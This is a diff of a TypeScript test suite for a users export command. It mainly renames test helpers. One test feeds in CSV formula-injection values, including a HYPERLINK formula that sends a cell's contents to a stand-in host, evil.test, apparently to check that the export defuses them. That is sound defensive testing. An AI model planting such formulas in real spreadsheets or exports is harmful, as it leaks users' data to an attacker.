@@ -8,16 +8,16 @@ import { parse } from 'csv-parse/sync'
 
 import { configuredEncryption } from '../../../plugins/security/encryption/index.ts'
 import { query } from '../../db/sql.ts'
-import { configOf } from '../../support/config.ts'
+import { testConfig } from '../../support/config.ts'
 import { cloneDatabase } from '../../support/database.ts'
 import {
-  fileOf,
   listAllUsers,
   passwordHash,
   startUsers,
   temporaryFolder,
   users,
   various,
+  writeImportFile,
 } from './command.ts'
 
 suite('users export', () => {
@@ -25,7 +25,7 @@ suite('users export', () => {
     test(`exports as ${format} and restores by import in another database`, async (t) => {
       const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
       const folder = await temporaryFolder(t)
-      await users(from.url, 'import', await fileOf(t, 'users.ndjson', various))
+      await users(from.url, 'import', await writeImportFile(t, 'users.ndjson', various))
       const file = join(folder, `users.${format}`)
       await writeFile(file, 'left by a user', { mode: 0o644 })
       await writeFile(`${file}.part`, 'left by an export that was killed')
@@ -48,7 +48,7 @@ suite('users export', () => {
     const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
     const auds = ['=HYPERLINK("https://evil.test/?"&F2)', '@sum', "'=1", '\t=1', "'quoted"]
     const rows = auds.map((aud, index) => ({ email: `-1+1@x${index}.test`, aud }))
-    await users(from.url, 'import', await fileOf(t, 'users.ndjson', rows))
+    await users(from.url, 'import', await writeImportFile(t, 'users.ndjson', rows))
     const file = join(await temporaryFolder(t), 'users.csv')
     await users(from.url, 'export', file)
 
@@ -63,7 +63,7 @@ suite('users export', () => {
 
   test('exports a decrypted password hash', async (t) => {
     const { url } = await cloneDatabase(t)
-    const encryption = configuredEncryption(configOf(), { isShared: false })
+    const encryption = configuredEncryption(testConfig(), { isShared: false })
     const id = crypto.randomUUID()
     await query(url, {
       text: 'insert into auth.users (id, email, encrypted_password) values ($1, $2, $3)',
@@ -95,7 +95,7 @@ suite('users export', () => {
 
   test('writes to standard output without a file', async (t) => {
     const { url } = await cloneDatabase(t)
-    await users(url, 'import', await fileOf(t, 'users.ndjson', various))
+    await users(url, 'import', await writeImportFile(t, 'users.ndjson', various))
     const { written, ended } = startUsers(t, url, 'export', '--format', 'csv')
     await ended
     assert.match(written.out, /^id,aud,role,email/)
